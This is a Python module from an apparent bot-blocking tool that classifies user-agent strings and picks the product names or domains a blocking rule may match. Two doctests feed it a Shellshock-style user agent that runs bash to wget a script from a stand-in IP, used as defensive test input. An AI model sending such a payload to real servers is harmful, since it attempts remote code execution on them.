"""What a user agent says about itself: whether it declares a bot, and the names a rule may block it by.

Why: an unknown crawler's addresses rotate, the name it gives itself does not. An agent that
declares itself a bot (a bot/crawler/spider/fetcher word, a ``+http`` URL, a contact address)
can be blocked by that name from its next address too. Agents people and legitimate
integrations share are never such a name: browser-like agents, absent agents and app runtimes
or HTTP libraries (:data:`SHARED_AGENT_TOKENS`); they are blocked by address only.

A *product name* is the name of a ``name/version`` pair, the host of a URL or the domain of a
contact address: the parts of an agent its author chose to identify it, as opposed to prose,
versions and platform words. The author is whoever sent the request, so a name is only ever
blocked by as a substring when it cannot be a part of a person's agent whatever agents exist
(no corpus of real agents is ever complete: ``Weixin``, ``iPhone16``, ``LibreWolf`` are all
"unknown" product names an attacker may pick):

* a name that itself names a bot (:func:`names_a_bot`: ``EvilBot``, ``Bytespider``,
  ``novascrape``, ``ia_archiver``), as crawler names do and people's browsers and apps do not;
* or a URL host or contact domain that is its operator's own (:func:`own_domain`: registrable
  under a known public suffix, not an app id such as ``com.nytimes.android``, not a shared one);

and :func:`~botguard.decide.safety.safe_ua_token` accepts it too (:func:`blockable_name`). Any
other self-declared bot is blocked by its exact agent, which only ever matches that sender. The
same holds for the names of imported catalogue entries, which a bot triggers by calling itself
so (``Seeker/1.0`` is Crawler-Detect's "Seeker"): only hand-checked entries' names are exempt.
Agents are read as the client sent them (log escapes such as ``\\x22`` decoded first).
"""

from __future__ import annotations

import re
from functools import cache, lru_cache

from publicsuffixlist import PublicSuffixList

from botguard.decide.records import Decision
from botguard.decide.safety import SHARED_DOMAINS, safe_ua_token
from botguard.judge.verdict import BROWSER_RE
from botguard.logs.escapes import unescape

__all__ = [
    "SHARED_AGENT_TOKENS", "candidate_tokens", "declares_bot", "library_agent", "names_a_bot", "own_domain",
    "product_names", "rule_tokens", "shared_agent",
]  # fmt: skip

#: How the reason of a rule made for a self-declared bot starts (the store re-checks such names).
SELF_DECLARED = "self-declared bot no catalogue entry verifies"

#: App runtimes and HTTP libraries (lower-case substrings): people's phone apps and legitimate
#: integrations send these agents, so one offender's agent says nothing about the next client.
SHARED_AGENT_TOKENS: tuple[str, ...] = (
    "cfnetwork", "okhttp", "dalvik", "python-requests", "python-urllib", "python-httpx", "aiohttp",
    "go-http-client", "java/", "apache-httpclient", "commons-httpclient", "libcurl", "curl/", "wget/",
    "node-fetch", "axios/", "undici", "guzzlehttp", "faraday", "ruby", "reqwest", "dart:io", "alamofire",
    "postmanruntime", "winhttp", "wininet", "microsoft-cryptoapi",
)  # fmt: skip

_BROWSER = re.compile(BROWSER_RE)
_BOT_WORD = re.compile(r"(?:bot|crawler|spider|fetcher|scraper)(?![a-z])", re.IGNORECASE)
_BOT_URL = re.compile(r"\+\s*https?://", re.IGNORECASE)
_DOMAIN = r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,63})(?![a-z0-9.-]*@)"
_CONTACT = re.compile(r"[a-z0-9._%+-]+@" + _DOMAIN, re.IGNORECASE | re.ASCII)
_URL_HOST = re.compile(r"https?://(?:[^/@\s]+@)?" + _DOMAIN, re.IGNORECASE | re.ASCII)
_NAME_VERSION = re.compile(r"(?<![\w.-])([a-z][\w.-]*?[a-z0-9_])\s?/\s?v?\d", re.IGNORECASE | re.ASCII)
#: The words crawler names are made of (EvilBot, Bytespider, novascrape, ia_archiver, DataFetcher,
#: Slurp, Indexer). "bot" only ends a word part: "Botim", "Abbott" and "robots" name no bot.
_BOT_NAME = re.compile(r"[Bb][Oo][Tt](?![a-z])|(?i:crawl|spider|scrap|fetch|slurp|archiv|index)")


@cache
def _public_suffixes() -> PublicSuffixList:
    """The Public Suffix List the package ships (no download); unknown suffixes are not suffixes."""
    return PublicSuffixList(accept_unknown=False)


def library_agent(agent: str) -> bool:
    """An app runtime's or HTTP library's agent: people's apps and integrations send it too.

    Examples:
        >>> [library_agent(a) for a in ("MyApp/3.1 CFNetwork/1404.0.5 Darwin/22.3.0", "EvilBot/1.0")]
        [True, False]
    """
    low = unescape(agent).lower()
    return any(token in low for token in SHARED_AGENT_TOKENS)


def shared_agent(agent: str) -> bool:
    """A browser-like, absent, app-runtime or HTTP-library agent (many unrelated clients send it).

    Examples:
        >>> [shared_agent(a) for a in ("", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101", "EvilBot/1.0")]
        [True, True, False]
    """
    decoded = unescape(agent).strip()
    return not decoded or bool(_BROWSER.match(decoded)) or library_agent(agent)


def declares_bot(agent: str) -> bool:
    """The agent says it is a bot (word, ``+http`` URL or contact address) and is not a shared one.

    Examples:
        >>> declares_bot("EvilBot/1.0"), declares_bot("novascrape/2.0 (+https://nova.example)")
        (True, True)
        >>> [declares_bot(a) for a in ("okhttp/4.9.2 bot", "curl/8.5.0", "Mozilla/5.0 (X11; Linux) Gecko")]
        [False, False, False]
    """
    if shared_agent(agent):
        return False
    decoded = unescape(agent)
    return bool(_BOT_WORD.search(decoded) or _BOT_URL.search(decoded) or _CONTACT.search(decoded))


def names_a_bot(name: str) -> bool:
    """The name says it is a bot's: it holds a crawler word (bot, crawl, spider, scrap, fetch ...).

    Examples:
        >>> [names_a_bot(n) for n in ("EvilBot", "Bytespider", "novascrape", "ia_archiver", "MJ12bot")]
        [True, True, True, True, True]
        >>> [names_a_bot(n) for n in ("Weixin", "iPhone16", "LibreWolf", "Botim", "robots", "l9scan")]
        [False, False, False, False, False, False]
    """
    return bool(_BOT_NAME.search(name))


@lru_cache(maxsize=65536)
def own_domain(host: str) -> bool:
    """A host or mail domain only its operator can hold: registrable under a known public suffix,
    not itself a public suffix (``github.io``), not an app id read backwards (``com.nytimes.android``
    starts with a top-level domain), not one many unrelated agents cite (:data:`SHARED_DOMAINS`).

    Reserved names (``.example``, ``.test``, ``localhost``) and labels no registry has
    (``prod.iphone`` of Outlook for iOS's agent) are no domain at all.

    Examples:
        >>> [own_domain(h) for h in ("crawl.novascrape.io", "paloaltonetworks.com", "x.github.io")]
        [True, True, True]
        >>> [own_domain(h) for h in ("evil.example", "prod.iphone", "com.nytimes.android", "github.io",
        ...                          "mail.google.com")]
        [False, False, False, False, False]
    """
    psl, folded = _public_suffixes(), host.lower().rstrip(".")
    registrable = psl.privatesuffix(folded)
    if registrable is None or psl.is_public(folded.split(".", 1)[0]):
        return False
    return registrable not in SHARED_DOMAINS and folded.removeprefix("www.") not in SHARED_DOMAINS


@lru_cache(maxsize=65536)
def product_names(agent: str) -> tuple[str, ...]:
    """Names of ``name/version`` pairs, then URL hosts, then contact domains, each once, in order.

    Examples:
        >>> product_names("Mozilla/5.0 (compatible; EvilBot/1.0; +http://Evil.example/bot; ops@evil.example)")
        ('Mozilla', 'EvilBot', 'evil.example')
        >>> product_names("Expanse, a Palo Alto Networks company, searches the global IPv4 space. "
        ...               "scaninfo@paloaltonetworks.com")
        ('paloaltonetworks.com',)
        >>> product_names(r"() { :; }; /bin/bash -c \\x22wget http://198.51.100.7/x.sh\\x22")
        ()
    """
    decoded = unescape(agent)
    found = [m.group(1) for m in _NAME_VERSION.finditer(decoded)]
    found += [m.group(1).lower() for m in _URL_HOST.finditer(decoded)]
    found += [m.group(1).lower() for m in _CONTACT.finditer(decoded)]
    first: dict[str, str] = {}
    for name in found:
        first.setdefault(name.lower(), name)
    return tuple(first.values())


@lru_cache(maxsize=65536)
def blockable_name(name: str) -> bool:
    """A name a substring rule may block by, whoever chose it: it names a bot or is an own domain,
    and :func:`~botguard.decide.safety.safe_ua_token` accepts it.

    Examples:
        >>> [blockable_name(n) for n in ("EvilBot", "crawl.novascrape.io", "Weixin", "Googlebot", "a.test")]
        [True, True, False, False, False]
    """
    return (names_a_bot(name) or own_domain(name)) and safe_ua_token(name)


@lru_cache(maxsize=65536)
def rule_tokens(agent: str) -> tuple[str, ...]:
    """The product names a rule may block this agent by as a substring (:func:`blockable_name`),
    best first: names that name a bot, then its operator's own domains.

    Examples:
        >>> rule_tokens("Mozilla/5.0 (compatible; EvilBot/1.0; +http://evil.io/bot)")
        ('EvilBot', 'evil.io')
        >>> rule_tokens("Scanner/1.0 (+https://crawl.novascrape.io/about)"), rule_tokens("Client/1.0 bot")
        (('crawl.novascrape.io',), ())
        >>> rule_tokens("Weixin/1.0 (+http://evil.example/bot)"), rule_tokens("iPhone16/1.0 (+http://evil.io/)")
        ((), ('evil.io',))
    """
    names = [name for name in product_names(agent) if blockable_name(name)]
    return tuple(sorted(names, key=lambda name: not names_a_bot(name)))


@lru_cache(maxsize=65536)
def candidate_tokens(agent: str) -> frozenset[str]:
    """:func:`rule_tokens` lower-cased: the only values a user-agent rule candidate for this agent may
    take; none for an app runtime's or HTTP library's agent (its names are everyone's). A bot's own
    name inside a browser-like agent may be one: the reference corpus keeps out browsers' names.

    Examples:
        >>> sorted(candidate_tokens("Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.io/bot)"))
        ['novascrape', 'novascrape.io']
        >>> candidate_tokens("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        ...                  "HeadlessChrome/120.0.0.0 Safari/537.36")
        frozenset()
        >>> candidate_tokens(r"() { :; }; /bin/bash -c \\x22wget http://198.51.100.7/x.sh\\x22")
        frozenset()
        >>> candidate_tokens("Expanse, a Palo Alto Networks company, searches the global IPv4 space v1.1.0")
        frozenset()
        >>> candidate_tokens("python-requests/2.31.0"), candidate_tokens("Go-http-client/1.1")
        (frozenset(), frozenset())
        >>> sorted(candidate_tokens("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        ...                         "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"))
        ['bytedance.com']
    """
    if library_agent(agent):
        return frozenset()
    return frozenset(token.lower() for token in rule_tokens(agent))


def agent_problem(decision: Decision) -> str | None:
    """Why no rule may carry this decision's user agent, or None (also for address-only matches).

    A server matches one header line: an agent with CR/LF never occurs in one, and an empty
    pattern would match every client. A token a scan stored is checked again with today's
    rules, so a name an older version accepted (``Weixin``, ``AP2A``) stops blocking people.

    Examples:
        >>> from botguard.decide.records import Match
        >>> [agent_problem(Decision("block", Match(kind, value), (SELF_DECLARED + ": 1 clients",)))
        ...  for kind, value in (("ua_exact", "a\\r\\nb"), ("ua_pattern", " "), ("ua_pattern", "Weixin"),
        ...                      ("ua_pattern", "EvilBot"), ("ip", "192.0.2.1"))]
        ['user agent with CR/LF', 'empty user agent', "a name a person's agent may hold", None, None]
    """
    match = decision.match
    if match.kind not in ("ua_pattern", "ua_exact", "client"):
        return None
    if "\r" in match.value or "\n" in match.value:
        return "user agent with CR/LF"
    if not match.value.strip(" \t"):
        return "empty user agent"
    if match.kind != "ua_pattern" or decision.source != "scan":
        return None
    if not safe_ua_token(match.value):
        return "a token browsers or good bots carry"
    if (
        decision.reasons[:1]
        and decision.reasons[0].startswith(SELF_DECLARED)
        and not blockable_name(match.value)
    ):
        return "a name a person's agent may hold"
    return None
